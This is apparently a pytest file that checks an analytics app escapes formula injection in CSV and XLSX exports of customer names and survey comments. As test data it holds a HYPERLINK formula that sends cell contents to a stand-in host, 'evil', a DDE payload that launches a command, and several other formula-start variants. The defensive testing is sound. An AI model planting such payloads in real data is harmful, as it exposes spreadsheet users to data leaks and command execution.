"""Formula injection: a customer's name or CSAT comment reaches a spreadsheet as text,
never as something it runs — in CSV (a `'` in front) and XLSX (a text cell, `'` in front),
on every export path; numbers stay numbers."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from analytics import exports
from analytics.csat import csat_submit
from analytics.models import CsatResponse, ExportJob
from chats.services.conversations import conversation_close
from chats.services.messages import message_reply
from tests import factories
from tests.analytics.conftest import clock
from tests.analytics.export_seed import PERIOD, T, as_user, csv_rows, file_body, xlsx_cells

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil/?d="&B2,"Open")'
EVIL_COMMENT = "+cmd|' /C calc'!A0"


@pytest.fixture
def evil(admin_user, operator, support_inbox):
    with clock(T):
        customer = factories.make_customer(EVIL_NAME, phone="+79161234500")
        conversation = factories.make_conversation(
            inbox=support_inbox, customer=customer, assignee=operator
        )
        message_reply(conversation=conversation, author=operator, body="Ответ")
        conversation_close(conversation=conversation, actor=operator)
    survey = CsatResponse.objects.filter(conversation=conversation).first()
    if survey is None:  # a channel without surveys: ask as the close would
        from analytics.csat import csat_request

        with clock(T):
            survey = csat_request(conversation_id=conversation.pk)
    with clock(T.replace(minute=5)):
        csat_submit(survey_id=survey.pk, customer_id=customer.pk, rating=2, comment=EVIL_COMMENT)
    return conversation


def _by_header(header, row):
    return dict(zip(header, row, strict=False))


def test_csv_cells_cannot_start_a_formula(evil, admin_user) -> None:
    [row] = csv_rows(file_body(as_user(admin_user), "conversations", "csv"))
    assert row["customer_name"] == "'" + EVIL_NAME
    assert row["csat_comment"] == "'" + EVIL_COMMENT
    assert row["customer_phone"] == "+79161234500"  # a phone number calls nothing
    assert row["id"] == str(evil.pk) and row["csat_rating"] == "2"


def test_xlsx_cells_are_text_never_formulas(evil, admin_user) -> None:
    header, [cells] = xlsx_cells(file_body(as_user(admin_user), "conversations", "xlsx"))
    row = _by_header(header, cells)
    for column, text in (("customer_name", EVIL_NAME), ("csat_comment", EVIL_COMMENT)):
        cell = row[column]
        assert cell.data_type == "s", column
        assert cell.value == "'" + text, column
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert row["id"].data_type == "n" and row["id"].value == evil.pk  # numbers stay numbers


def test_the_background_job_writes_the_same_safe_cells(evil, admin_user) -> None:
    client = as_user(admin_user)
    with clock(T.replace(hour=11)):
        started = client.post(
            f"/api/v1/reports/exports/?{PERIOD}", {"dataset": "conversations", "format": "xlsx"}
        )
    assert started.status_code == 202, started.content
    job = ExportJob.objects.get(pk=started.json()["id"])
    assert job.status == ExportJob.Status.DONE, job.error
    file = client.get(f"/api/v1/reports/exports/{job.pk}/download/")
    header, [cells] = xlsx_cells(b"".join(file.streaming_content))
    name = _by_header(header, cells)["customer_name"]
    assert (name.data_type, name.value) == ("s", "'" + EVIL_NAME)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\tsomething",
        "\rsomething",
        "  =HYPERLINK(1)",
        "\u00a0\n@x",
        "\uff1dfull-width",
    ],
)
def test_every_formula_start_is_neutralised(text) -> None:
    assert exports.spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "Ivan", "-12.5", "+7 916 123-45-00", "+79161234500", "a=b", "100%", "#N/A"]
)
def test_ordinary_text_and_numbers_written_as_text_are_left_alone(text) -> None:
    assert exports.spreadsheet_text(text) == text


def test_one_writer_path_for_every_string_column_numbers_stay_numbers() -> None:
    columns = [
        exports.Column("delta", "int"),
        exports.Column("share", "float", digits=1),
        exports.Column("note", "str"),
        exports.Column("tags", "str"),
        exports.Column("at", "datetime"),
    ]
    at = datetime(2026, 6, 1, 9, tzinfo=UTC)
    rows = [
        {"delta": -5, "share": -0.25, "note": "-cmd", "tags": "@vip, =x", "at": at},
        {"delta": 3, "share": 1.0, "note": "#N/A", "tags": "bad\x01char", "at": None},
    ]
    out = io.BytesIO()
    exports.write_file("xlsx", out, columns, rows)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    header, first, second = list(sheet.iter_rows())
    assert [c.value for c in header] == ["delta", "share", "note", "tags", "at_local", "at_utc"]
    assert [(c.data_type, c.value) for c in first[:4]] == [
        ("n", -5),
        ("n", -0.3),  # rounded half up to its one decimal, away from zero
        ("s", "'-cmd"),
        ("s", "'@vip, =x"),
    ]
    assert (second[2].data_type, second[2].value) == ("s", "#N/A")  # text, not an error cell
    assert second[3].value == "bad\ufffdchar"  # XLSX cannot hold \x01: replaced, not a failure
    lines = list(exports.csv_lines(columns, rows))
    assert (
        lines[1].strip()
        == "-5,-0.3,'-cmd,\"'@vip, =x\",2026-06-01T09:00:00+00:00,2026-06-01T09:00:00+00:00"
    )
